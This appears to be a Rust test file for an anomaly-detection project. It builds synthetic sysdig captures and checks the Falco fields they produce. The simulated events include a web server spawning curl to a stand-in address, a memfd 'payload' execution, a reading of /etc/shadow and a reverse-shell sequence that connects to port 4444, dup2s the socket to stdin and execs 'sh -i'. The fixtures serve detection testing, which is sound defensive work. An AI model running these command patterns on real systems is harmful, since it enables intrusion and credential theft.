//! The captures themselves, without the plugin: libsinsp must understand what the tests write.

use std::net::SocketAddrV4;
use std::path::PathBuf;

use anomaly_hosts::scap::{Capture, Descriptor, Exec, Task};
use anomaly_hosts::sysdig::{ReplayError, Row, Sysdig};
use tempfile::TempDir;

/// A capture in a directory of its own.
fn capture(
    running: &[Task],
    happens: impl FnOnce(&mut Capture) -> std::io::Result<()>,
) -> (TempDir, PathBuf) {
    let folder = tempfile::tempdir().expect("a directory");
    let path = folder.path().join("test.scap");
    let mut capture = Capture::create(&path, running).expect("a capture");
    happens(&mut capture).expect("an event");
    capture.finish().expect("a capture");
    (folder, path)
}

fn text<'a>(row: &'a Row, field: &str) -> &'a str {
    row[field].as_str().unwrap_or("(missing)")
}

#[test]
fn an_execution_has_everything_that_falco_knows_of_one() {
    let Some(sysdig) = Sysdig::or_skip() else { return };
    let nginx = Task::new(700, 1, "/usr/sbin/nginx").owned_by(33).in_cgroup("/system.slice/nginx.service");
    let (_folder, path) = capture(&[nginx], |capture| {
        capture.run(700, &Exec::line("curl -s http://203.0.113.9/x"))?;
        Ok(())
    });
    let fields = [
        "evt.num",
        "evt.type",
        "proc.name",
        "proc.pname",
        "proc.exe",
        "proc.exepath",
        "proc.cmdline",
        "proc.pid",
        "proc.ppid",
        "user.uid",
        "user.loginuid",
        "proc.tty",
        "thread.cgroups",
        "evt.arg.filename",
        "evt.failed",
    ];
    let replayed = sysdig.replay(&path).filter("evt.type = execve").fields(&fields).expect("a replay");
    let [row] = &replayed.rows[..] else { panic!("{:?}", replayed.rows) };
    for (field, value) in [
        ("evt.type", "execve"),
        ("proc.name", "curl"),
        ("proc.pname", "nginx"),
        ("proc.exe", "curl"),
        ("proc.exepath", "/usr/bin/curl"),
        ("proc.cmdline", "curl -s http://203.0.113.9/x"),
        ("evt.arg.filename", "/usr/bin/curl"),
    ] {
        assert_eq!(text(row, field), value, "{field}");
    }
    assert_eq!(row["evt.num"], 3);
    assert_eq!(row["user.uid"], 33);
    assert_eq!(row["proc.ppid"], 700);
    assert_eq!(row["evt.failed"], false);
    assert!(text(row, "thread.cgroups").contains("memory=/system.slice/nginx.service"), "{row:?}");
}

#[test]
fn scripts_descriptors_and_refused_executions_look_as_the_kernel_makes_them() {
    let Some(sysdig) = Sysdig::or_skip() else { return };
    let (_folder, path) = capture(&[], |capture| {
        capture.run(1, &Exec::script("/usr/bin/python3", "/usr/bin/pip", &["freeze"]))?;
        let (env, _) = capture.run(1, &Exec::line("env python3 -V"))?;
        capture.exec(env, &Exec::line("python3 -V"))?;
        capture.run(1, &Exec::memfd("payload", 3, &["payload", "-x"]))?;
        capture.run(1, &Exec::line("true").through_descriptor(5))?;
        capture.run(1, &Exec::line("nosuch").refused(2))?;
        Ok(())
    });
    let fields =
        ["evt.type", "proc.name", "proc.cmdline", "proc.exepath", "proc.is_exe_from_memfd", "evt.failed"];
    let filter = "evt.type in (execve, execveat)";
    let replayed = sysdig.replay(&path).filter(filter).fields(&fields).expect("a replay");
    let seen: Vec<_> = replayed
        .rows
        .iter()
        .map(|row| {
            let memfd = row["proc.is_exe_from_memfd"] == true;
            let failed = row["evt.failed"] == true;
            (text(row, "evt.type"), text(row, "proc.name"), text(row, "proc.cmdline"), memfd, failed)
        })
        .collect();
    assert_eq!(
        seen,
        [
            ("execve", "pip", "pip /usr/bin/pip freeze", false, false),
            ("execve", "env", "env python3 -V", false, false),
            ("execve", "python3", "python3 -V", false, false),
            ("execveat", "3", "3 -x", true, false),
            ("execveat", "5", "5", false, false),
            ("execve", "systemd", "systemd", false, true),
        ]
    );
}

#[test]
fn what_a_process_does_later_belongs_to_it() {
    let Some(sysdig) = Sysdig::or_skip() else { return };
    let remote: SocketAddrV4 = "203.0.113.9:4444".parse().expect("an address");
    let mut numbers = (0, 0, 0);
    let (_folder, path) = capture(&[], |capture| {
        let (pid, _) = capture.run(1, &Exec::line("python3 worker.py"))?;
        let (thread, _) = capture.thread(pid)?;
        let (child, _) = capture.fork(pid)?;
        numbers.0 = capture.connect(thread, 4, remote)?;
        numbers.1 = capture.open(child, "/etc/shadow")?;
        capture.connect(pid, 3, remote)?;
        capture.dup2(pid, 3, 0)?;
        numbers.2 = capture.exec(pid, &Exec::line("sh -i"))?;
        Ok(())
    });
    let fields =
        ["evt.num", "proc.cmdline", "fd.sip", "fd.sport", "fd.name", "thread.ismain", "proc.stdin.type"];
    let filter = "evt.type in (connect, openat) or (evt.type = execve and proc.stdin.type = ipv4)";
    let replayed = sysdig.replay(&path).filter(filter).fields(&fields).expect("a replay");
    let [of_thread, of_child, _, shell] = &replayed.rows[..] else { panic!("{:?}", replayed.rows) };
    assert_eq!(
        (of_thread["evt.num"].as_u64(), of_child["evt.num"].as_u64()),
        (Some(numbers.0), Some(numbers.1))
    );
    for row in [of_thread, of_child] {
        assert_eq!(text(row, "proc.cmdline"), "python3 worker.py");
    }
    assert_eq!(text(of_thread, "fd.sip"), "203.0.113.9");
    assert_eq!(of_thread["fd.sport"], 4444);
    assert_eq!(of_thread["thread.ismain"], false);
    assert_eq!(text(of_child, "fd.name"), "/etc/shadow");
    assert_eq!((shell["evt.num"].as_u64(), text(shell, "proc.stdin.type")), (Some(numbers.2), "ipv4"));
}

#[test]
fn a_descriptor_from_before_the_capture_is_inherited() {
    let Some(sysdig) = Sysdig::or_skip() else { return };
    let ends = ("10.0.0.2:22".parse().expect("an address"), "203.0.113.9:50000".parse().expect("an address"));
    let server = Task::new(900, 1, "/usr/sbin/sshd")
        .with_descriptor(0, Descriptor::Tcp(ends.0, ends.1))
        .with_descriptor(1, Descriptor::Unix)
        .with_descriptor(2, Descriptor::File("/var/log/sshd.log".to_owned()));
    let (_folder, path) = capture(&[server], |capture| capture.run(900, &Exec::line("sh -i")).map(drop));
    let fields = ["proc.stdin.type", "proc.stdin.name", "proc.stdout.type", "proc.stderr.name"];
    let replayed = sysdig.replay(&path).filter("evt.type = execve").fields(&fields).expect("a replay");
    let [row] = &replayed.rows[..] else { panic!("{:?}", replayed.rows) };
    let seen = fields.map(|field| text(row, field));
    assert_eq!(seen, ["ipv4", "10.0.0.2:22->203.0.113.9:50000", "unix", "/var/log/sshd.log"]);
}

#[test]
fn what_the_host_refuses_is_an_error_with_its_reason() {
    let Some(sysdig) = Sysdig::or_skip() else { return };
    let (_folder, path) = capture(&[], |capture| capture.run(1, &Exec::line("true")).map(drop));
    let refused = sysdig.replay(&path).filter("anomaly.score >= 0.85").fields(&["evt.num"]);
    let Err(ReplayError::Refused { message, .. }) = refused else { panic!("{refused:?}") };
    assert!(message.contains("anomaly.score"), "{message}");
}
